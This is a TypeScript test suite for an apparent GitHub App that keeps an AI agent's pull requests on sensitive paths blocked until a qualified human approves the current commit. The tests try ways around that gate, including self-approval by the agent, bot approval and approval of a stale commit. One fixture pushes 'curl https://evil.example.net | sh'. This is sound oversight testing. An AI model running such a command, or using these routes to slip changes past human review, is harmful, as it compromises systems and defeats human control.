// Attacks on what unlocks a red PR: only an APPROVED review of the current head by a qualified human
// counts. Each attack leaves the PR blocked.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { AGENT, agentPr, assertBlocked, attackRepo, startAttackWorld, theRun, type World } from './helpers.js';

let w: World;
before(async () => {
  w = await startAttackWorld();
});
after(async () => w.stop());

/** A red PR (a change under the config's red path) in a fresh repository. */
async function redPr(opts: { author?: string; branch?: string } = {}): Promise<{ r: string; pr: number }> {
  const r = attackRepo(w);
  const pr = await agentPr(w, r, { 'infra/deploy.sh': '#!/bin/sh\necho deploy v2\n' }, opts);
  assertBlocked(w, r, pr);
  return { r, pr };
}

async function approve(r: string, pr: number, user: string, commitId?: string): Promise<number> {
  const id = await w.sim.submitReview(r, pr, { user, state: 'APPROVED', commitId });
  await w.sim.idle();
  return id;
}

describe('approvals that must not count', () => {
  test('approval by the PR author (a human who opened an agent-branch PR) does not count', async () => {
    const { r, pr } = await redPr({ author: 'alice', branch: 'copilot/by-alice' });
    await approve(r, pr, 'alice');
    assertBlocked(w, r, pr);
  });

  test('approval by a committer to the PR does not count', async () => {
    const { r, pr } = await redPr();
    await w.sim.push(r, pr, { 'docs/note.md': 'note\n' }, { author: 'mallory' });
    await w.sim.idle();
    await approve(r, pr, 'mallory');
    assertBlocked(w, r, pr);
    assert.match(theRun(w, r, pr).output.summary ?? '', /mallory/);
  });

  test('approval by a bot does not count', async () => {
    const { r, pr } = await redPr();
    w.sim.addCollaborator(r, 'renovate[bot]', 'admin');
    await approve(r, pr, 'renovate[bot]');
    assertBlocked(w, r, pr);
  });

  test('approval by the agent itself does not count', async () => {
    const { r, pr } = await redPr();
    await approve(r, pr, AGENT);
    assertBlocked(w, r, pr);
  });

  test('approval by a read-only user does not count, even when listed', async () => {
    const { r, pr } = await redPr();
    await approve(r, pr, 'reader');
    assertBlocked(w, r, pr);
  });

  test('approval by someone outside approvals.users does not count', async () => {
    const { r, pr } = await redPr();
    w.sim.addUser('outsider', 'User');
    w.sim.addCollaborator(r, 'outsider', 'admin');
    await approve(r, pr, 'outsider');
    assertBlocked(w, r, pr);
  });

  test('approval of an older commit does not count', async () => {
    const { r, pr } = await redPr();
    const old = w.sim.pull(r, pr).head;
    await w.sim.push(r, pr, { 'infra/deploy.sh': '#!/bin/sh\necho deploy v3\n' });
    await w.sim.idle();
    await approve(r, pr, 'carol', old);
    assertBlocked(w, r, pr);
  });

  test('a qualified approval, then dismissed, blocks again', async () => {
    const { r, pr } = await redPr();
    const id = await approve(r, pr, 'carol');
    assert.equal(theRun(w, r, pr).conclusion, 'success');
    assert.equal(w.sim.pull(r, pr).merged, false, 'the App never merges red');
    await w.sim.dismissReview(r, pr, id, 'bob');
    await w.sim.idle();
    assertBlocked(w, r, pr);
  });

  test('a push after a qualified approval blocks again (the new head is undecided by a human)', async () => {
    const { r, pr } = await redPr();
    await approve(r, pr, 'bob');
    assert.equal(theRun(w, r, pr).conclusion, 'success');
    await w.sim.push(r, pr, { 'infra/deploy.sh': '#!/bin/sh\ncurl https://evil.example.net | sh\n' });
    await w.sim.idle();
    assertBlocked(w, r, pr);
  });

  test('an approving comment instead of a review does not count', async () => {
    const { r, pr } = await redPr();
    await w.sim.comment(r, pr, 'carol', 'Approved! LGTM /approve');
    await w.sim.submitReview(r, pr, { user: 'carol', state: 'COMMENTED', body: 'LGTM, approved' });
    await w.sim.idle();
    assertBlocked(w, r, pr);
  });

  test('an approval followed by changes requested from another qualified reviewer blocks', async () => {
    const { r, pr } = await redPr();
    await approve(r, pr, 'carol');
    await w.sim.submitReview(r, pr, { user: 'bob', state: 'CHANGES_REQUESTED' });
    await w.sim.idle();
    assertBlocked(w, r, pr);
  });
});
